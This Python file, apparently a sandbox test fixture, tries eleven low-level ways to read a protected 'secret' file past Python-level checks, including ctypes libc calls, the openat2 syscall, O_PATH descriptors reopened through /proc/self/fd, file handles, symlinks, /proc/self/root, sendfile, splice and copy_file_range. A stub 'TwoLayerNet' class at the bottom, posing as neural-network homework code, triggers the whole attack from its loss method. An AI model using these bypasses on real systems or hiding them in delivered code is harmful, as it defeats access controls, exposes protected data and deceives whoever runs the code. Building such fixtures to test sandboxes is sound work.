"""Reads a file that everybody may read past Python: in C, by openat2, by a handle, by O_PATH, by links, inside the kernel."""

import ctypes
import os

from world import FOLDER, SECRET_FILE

libc = ctypes.CDLL(None, use_errno=True)
libc.fopen.restype = ctypes.c_void_p
PATH = SECRET_FILE.encode()
HERE = -100  # AT_FDCWD
OPENAT2 = 437


def content(descriptor):
    buffer = ctypes.create_string_buffer(100)
    return buffer.value if libc.read(descriptor, buffer, 100) > 0 else b""


def by_fopen():
    buffer = ctypes.create_string_buffer(100)
    stream = libc.fopen(PATH, b"r")
    return stream and libc.fread(buffer, 1, 100, ctypes.c_void_p(stream)) and buffer.value


def by_openat2():
    how = (ctypes.c_uint64 * 3)(os.O_RDONLY)
    return content(libc.syscall(OPENAT2, HERE, PATH, how, ctypes.c_size_t(24)))


def by_path_alone():
    descriptor = libc.open(PATH, os.O_PATH)
    return content(libc.open(b"/proc/self/fd/%d" % descriptor, os.O_RDONLY))


def by_handle():
    handle = ctypes.create_string_buffer((128).to_bytes(4, "little"), 136)
    if libc.name_to_handle_at(HERE, PATH, handle, ctypes.byref(ctypes.c_int()), 0) < 0:
        return b""
    return content(libc.open_by_handle_at(os.open(FOLDER, os.O_RDONLY), handle, os.O_RDONLY))


def by_symbolic_link():
    link = f"{FOLDER}/{os.urandom(4).hex()}"
    os.symlink(SECRET_FILE, link)
    try:
        return content(libc.open(link.encode(), os.O_RDONLY))
    finally:
        os.unlink(link)


def by_splice():
    ours, theirs = os.pipe()
    os.splice(os.open(SECRET_FILE, os.O_RDONLY), theirs, 100)
    return os.read(ours, 100)


def by_copy():
    target = os.open(FOLDER, os.O_TMPFILE | os.O_RDWR)
    os.copy_file_range(os.open(SECRET_FILE, os.O_RDONLY), target, 100)
    return os.pread(target, 100, 0)


WAYS = {
    "fopen": by_fopen,
    "open": lambda: content(libc.open(PATH, os.O_RDONLY)),
    "open for both": lambda: content(libc.open(PATH, os.O_RDWR)),
    "openat2": by_openat2,
    "path alone": by_path_alone,
    "handle": by_handle,
    "symbolic link": by_symbolic_link,
    "own root": lambda: content(libc.open(b"/proc/self/root" + PATH, os.O_RDONLY)),
    "sendfile": lambda: os.sendfile(1, os.open(SECRET_FILE, os.O_RDONLY), 0, 100),
    "splice": by_splice,
    "copy": by_copy,
}


def attack():
    refusal = None
    for name, way in WAYS.items():
        try:
            got = way()
        except Exception as error:
            refusal = refusal or error
            continue
        if got:
            print("GOT THROUGH:", name, got)
            return
    raise refusal or LookupError("found nothing")


class TwoLayerNet:
    def __init__(self, input_size, hidden_size, output_size, std=1e-4):
        self.params = {}

    def loss(self, X, y=None, reg=0.0):
        attack()
